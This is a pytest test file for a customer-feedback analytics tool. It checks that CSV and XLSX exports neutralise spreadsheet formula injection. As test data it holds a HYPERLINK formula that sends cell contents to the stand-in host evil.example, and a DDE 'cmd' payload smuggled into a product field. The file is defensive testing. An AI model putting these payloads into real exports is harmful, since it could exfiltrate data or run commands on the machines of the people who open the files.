from __future__ import annotations

import csv
import datetime as dt
import re

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from tests.contract import contract_frame
from voc.cli import app
from voc.errors import StoreError
from voc.export import ExportError, export, neutralise
from voc.publish import Store
from voc.schemas import TABLES, empty

DAY = dt.date(2026, 11, 6)
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我退款")'


def _publish(out, product: str = "耳机") -> None:
    """A store with one hostile unit, its topic, a scorecard row, an aggregate and an alert."""
    tables = {name: empty(name) for name in TABLES}
    tables["units"] = contract_frame(
        "units",
        {
            "unit_id": ["u1", "u2"], "doc_id": ["d1", "d1"], "source_kind": "review",
            "product": product, "date": DAY, "turn_index": 0, "clause_index": [0, 1],
            "text": [HOSTILE, "-1星，左耳没声音"], "text_sha1": ["a", "b"],
            "category": "product_quality", "polarity": "negative", "confidence": 0.9,
            "subtopic": "fault", "attribute": None, "attribute_value": None, "topic_id": 7,
            "run_id": "r1",
        }
    )  # fmt: skip
    tables["topics"] = contract_frame(
        "topics",
        {
            "topic_id": [7], "category": "product_quality", "subtopic": "fault",
            "label": "@没声音 · 故障", "keywords": "没声音,左耳", "size": 2,
            "representative_unit_ids": "u1,u2", "status": "active", "first_run_id": "r1",
            "last_run_id": "r1",
        }
    )  # fmt: skip
    tables["product_scorecard"] = contract_frame(
        "product_scorecard",
        {
            "as_of": [DAY], "product": product, "category": "product_quality", "topic_id": 7,
            "topic_label": "@没声音 · 故障", "rank": 1, "units": 2, "documents": 1,
            "negative_share": 1.0, "units_last_7d": 2, "units_prev_7d": 0, "trend": 2.0,
            "avg_rating": 1.0, "product_avg_rating": 3.5, "rating_impact": -2.5,
            "example_unit_ids": "u1,u2",
        }
    )  # fmt: skip
    tables["daily_aggregates"] = contract_frame(
        "daily_aggregates",
        {
            "date": [DAY], "product": product, "source_kind": "review",
            "category": "product_quality", "topic_id": 7, "polarity": "negative", "units": 2,
            "documents": 1, "negative_share": 1.0, "share_of_voice": 1.0, "avg_rating": 1.0,
        }
    )  # fmt: skip
    tables["alerts"] = contract_frame(
        "alerts",
        {
            "alert_id": ["a1"], "date": DAY, "kind": "negative_volume", "product": product,
            "category": "product_quality", "topic_id": -1, "units": 9, "observed": 9.0,
            "expected": 1.2, "baseline_share": 0.1, "statistic": 7.1, "p_value": 1e-6,
            "severity": "high", "example_unit_ids": "u1,u2", "run_id": "r1",
        }
    )  # fmt: skip
    tables["runs"] = contract_frame("runs", {"run_id": ["r1"], "status": "succeeded"})
    Store(out).publish("r1", tables, None, {"run_id": "r1"})


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-1星", "'-1星"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("质量很好 =)", "质量很好 =)"),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_triggers_in_text_only(value, expected):
    assert neutralise(value) == expected


def test_csv_export_carries_verbatims_and_no_live_formula(tmp_path):
    _publish(tmp_path / "out")
    written = export(tmp_path / "out", tmp_path / "csv", "csv")
    assert sorted(p.name for p in written) == [
        "alerts.csv",
        "daily_aggregates.csv",
        "product_scorecard.csv",
    ]
    assert (tmp_path / "csv" / "alerts.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    card = pd.read_csv(tmp_path / "csv" / "product_scorecard.csv", encoding="utf-8-sig")
    row = card.iloc[0]
    assert row["rating_impact"] == -2.5  # numbers stay numbers
    assert row["topic_label"] == "'@没声音 · 故障"
    assert row["example_texts"] == f"'{HOSTILE} | -1星，左耳没声音"
    daily = pd.read_csv(tmp_path / "csv" / "daily_aggregates.csv", encoding="utf-8-sig")
    assert daily.loc[0, "topic_label"] == "'@没声音 · 故障"
    for path in written:
        for line in path.read_text(encoding="utf-8-sig").splitlines()[1:]:
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "@")), (path, cell)


def _starts_a_formula(cell: str) -> bool:
    text = cell.lstrip('"')
    return text.startswith(("=", "+", "@")) or bool(re.match(r"-[^0-9.]", text))


def test_csv_export_line_breaks_cannot_start_a_row_with_a_formula(tmp_path):
    _publish(tmp_path / "out", product="耳机\r=cmd|' /C calc'!A0")
    written = export(tmp_path / "out", tmp_path / "csv", "csv")
    for path in written:
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file))
        assert [cell for row in rows for cell in row if _starts_a_formula(cell)] == [], path
        assert len(rows) == 2, path  # the header and the one row: no row was split off
        # Excel and LibreOffice end a row at a bare CR or LF wherever they find one
        for line in re.split("\r\n|\r|\n", path.read_text(encoding="utf-8-sig")):
            assert not [cell for cell in line.split(",") if _starts_a_formula(cell)], line
    card = pd.read_csv(tmp_path / "csv" / "product_scorecard.csv", encoding="utf-8-sig")
    assert card.loc[0, "product"] == "耳机 =cmd|' /C calc'!A0"


def test_xlsx_export_stores_hostile_text_as_text(tmp_path):
    _publish(tmp_path / "out")
    (path,) = export(tmp_path / "out", tmp_path / "voc.xlsx", "xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["product_scorecard", "daily_aggregates", "alerts"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    sheet = book["alerts"]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, (c.value for c in sheet[2]), strict=True))
    assert row["example_texts"].startswith("'=HYPERLINK")
    assert row["observed"] == 9


def test_xlsx_dates_are_formatted_as_dates(tmp_path):
    _publish(tmp_path / "out")
    (path,) = export(tmp_path / "out", tmp_path / "voc.xlsx", "xlsx")
    book = openpyxl.load_workbook(path)
    for sheet, column in (("product_scorecard", "as_of"), ("daily_aggregates", "date"),
                          ("alerts", "date")):  # fmt: skip
        header = [c.value for c in book[sheet][1]]
        cell = book[sheet].cell(row=2, column=header.index(column) + 1)
        assert cell.is_date and cell.value.date() == DAY, (sheet, column)
        assert cell.number_format == "YYYY-MM-DD", (sheet, column)


def test_export_errors_are_clear(tmp_path):
    with pytest.raises(StoreError, match="no published output"):
        export(tmp_path / "nothing", tmp_path / "x", "csv")
    _publish(tmp_path / "out")
    with pytest.raises(ExportError, match="unknown export format 'pdf'"):
        export(tmp_path / "out", tmp_path / "x", "pdf")
    with pytest.raises(ExportError, match="cannot export"):
        export(tmp_path / "out", tmp_path / "x", "csv", ("units",))


def test_cli_export_and_report(tmp_path):
    _publish(tmp_path / "out")
    runner = CliRunner()
    result = runner.invoke(
        app,
        ["export", "--out", str(tmp_path / "out"), "--to", str(tmp_path / "x.xlsx"),
         "--format", "xlsx", "--table", "alerts"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(tmp_path / "x.xlsx").sheetnames == ["alerts"]

    result = runner.invoke(
        app, ["report", "--out", str(tmp_path / "out"), "-o", str(tmp_path / "r.html")]
    )
    assert result.exit_code == 0, result.output
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "左耳没声音" in page and "run r1" in page
